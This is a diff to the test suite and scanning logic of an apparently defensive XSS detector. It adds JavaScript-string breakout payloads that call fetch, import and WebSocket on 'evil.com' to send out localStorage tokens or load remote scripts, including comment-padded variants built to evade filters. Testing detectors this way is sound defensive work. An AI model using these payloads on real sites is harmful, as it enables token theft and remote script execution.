@@ -1209,6 +1209,15 @@ t.test('complete JavaScript-string breakouts into loads, exfiltration and redire
     "';x=new XMLHttpRequest;x.open('GET','//evil.com/?'+sessionStorage.t);x.send()//",
     "';with(document)body.appendChild(createElement('script')).src='//evil.com/x.js'//",
     "'}; location = 'https://evil.com' ;var a='",
+    "';new WebSocket('//evil.com')//",
+    "';void fetch('//evil.com/?'+localStorage.t)//",
+    "';return import('//evil.com/x.js')//",
+    // Comments as blanks (review rA: these passed).
+    "'/**/;import('//evil.com/x.js')//",
+    "'/*a*/ /*b*/;fetch('//evil.com/?'+localStorage.t)//",
+    "';import/**/('//evil.com/x.js')//",
+    "\";location/**/='//evil.com'//",
+    "';fetch /* x */ ('//evil.com')//",
   ];
   for (const v of high) {
     const d = detectXss(v);
@@ -1228,6 +1237,14 @@ t.test('complete JavaScript-string breakouts into loads, exfiltration and redire
     '"use strict"; fetch(url) // load',
     "'; // TODO: fetch(data) later",
     "let q = 'a'; fetch(q) // example",
+    // Quoted prose and markdown with an operator at both ends (review rA): a name after a word, or
+    // inside a string, is not code.
+    '"- Don\'t call alert() in tests -"',
+    '"-- see open() docs --"',
+    '"- fixed write() bug -"',
+    '"** Note: call open() first **"',
+    '"; charset=utf-8" and fetch() returns //',
+    '"-1","write(x)","-"',
   ];
   for (const v of notHigh) {
     const d = detectXss(v);
@@ -1254,6 +1271,7 @@ const REF_CALL = new Set('import fetch open eval Function atob setTimeout setInt
 const REF_REF = new Set(['localStorage', 'sessionStorage', 'indexedDB', 'XMLHttpRequest']);
 const REF_SET = new Set(['location', 'onerror', 'onload']);
 const REF_MEMBER_SET = new Set(['src', 'href', 'action', 'innerHTML', 'outerHTML']);
+const REF_KEYWORDS = new Set('new return void typeof await throw yield case delete in of else do instanceof'.split(' '));
 function refBreakout(s: string): boolean {
   let k = 0;
   while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
@@ -1261,8 +1279,18 @@ function refBreakout(s: string): boolean {
   const q = s[k];
   if (q !== "'" && q !== '"' && q !== '`') return false;
   k++;
-  const stop = Math.min(s.length, k + 8);
-  while (k < stop && (')]}'.includes(s[k]!) || s.charCodeAt(k) <= 32)) k++;
+  let stop = Math.min(s.length, k + 8);
+  for (let c = 0; ; c++) {
+    while (k < stop && (')]}'.includes(s[k]!) || s.charCodeAt(k) <= 32)) k++;
+    if (c < 2 && s.startsWith('/*', k)) {
+      const close = s.indexOf('*/', k + 2);
+      if (close === -1) return false;
+      k = close + 2;
+      stop = Math.min(s.length, k + 8);
+      continue;
+    }
+    break;
+  }
   if (k >= s.length || !';+-*|&^%,'.includes(s[k]!)) return false;
   const head = k + 1;
   let e = s.length;
@@ -1283,11 +1311,17 @@ function refBreakout(s: string): boolean {
   for (const m of mid.slice(head).matchAll(/[A-Za-z0-9_$]+/g)) {
     const a = head + m.index!;
     if (a > 0 && /[A-Za-z0-9_$]/.test(s[a - 1]!)) continue; // the identifier began before the head
-    const after = mid.slice(a + m[0].length).replace(/^[ \t]{0,4}/, '');
+    let after = mid.slice(a + m[0].length).replace(/^[ \t]{0,4}/, '');
+    if (after.startsWith('/*') && after.indexOf('*/', 2) !== -1) after = after.slice(after.indexOf('*/', 2) + 2).replace(/^[ \t]{0,4}/, '');
     const blanks = mid.length - a - m[0].length - after.length;
     const d = after.length > 0 ? after[0]! : '';
     const assign = d === '=' && after[1] !== '=';
     const name = m[0];
+    // Code position: not inside a string (after a quote) nor after a word but a keyword (prose).
+    const before = s.slice(head, a);
+    if (/['"`][ \t]{0,4}$/.test(before)) continue;
+    const word = /([A-Za-z0-9_$]+)[ \t]{1,4}$/.exec(before);
+    if (word && !REF_KEYWORDS.has(word[1]!)) continue;
     if ((d === '(' || d === '`') && REF_CALL.has(name)) return true;
     if ((d === '' || '.=;),]+[('.includes(d)) && REF_REF.has(name)) return true;
     if ((assign || (d === '.' && blanks === 0)) && REF_SET.has(name)) return true;
@@ -1299,7 +1333,7 @@ function refBreakout(s: string): boolean {
 t.test('breakout scan against a slow reference on a seeded table (session 19)', async (t) => {
   const heads = ["';", '"+', "')", "\\';", "'}-", '"|', "' ,", '`;', "'\t;", "'x;"];
   const tails = ['//', "+'", '// x', '"', ";var a='", '\n//', '//\n', '://x', "('", '=`'];
-  const pieces = [...'\'"`\\;+-|&,)}] =(./*\n:?%é'].concat(['//', 'fetch', 'import', 'location', 'localStorage', 'XMLHttpRequest', 'cookie', 'src', 'href', 'open', 'alert', 'onerror', 'innerHTML', 'sendBeacon', 'the', "O'Brien", 'http://x.com/', "'//evil.com'", 'x', 'new ', 'Image()', 'fetchy', 'xfetch', 'src2', '==']);
+  const pieces = [...'\'"`\\;+-|&,)}] =(./*\n:?%é'].concat(['/*', '*/', '/**/', '//', 'fetch', 'import', 'location', 'localStorage', 'XMLHttpRequest', 'cookie', 'src', 'href', 'open', 'alert', 'onerror', 'innerHTML', 'sendBeacon', 'the', "O'Brien", 'http://x.com/', "'//evil.com'", 'x', 'new ', 'Image()', 'fetchy', 'xfetch', 'src2', '==']);
   let seed = 1919;
   const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
   let flagged = 0;
@@ -1320,5 +1354,5 @@ t.test('breakout scan against a slow reference on a seeded table (session 19)', 
     verdicts.push(verdictKey(d));
   }
   t.ok(flagged > 600, `${flagged} values flagged by the reference`);
-  t.equal(verdictDigest(verdicts), 'be40fdbe', 'verdicts of the table pinned');
+  t.equal(verdictDigest(verdicts), 'df1e4ee2', 'verdicts of the table pinned');
 });
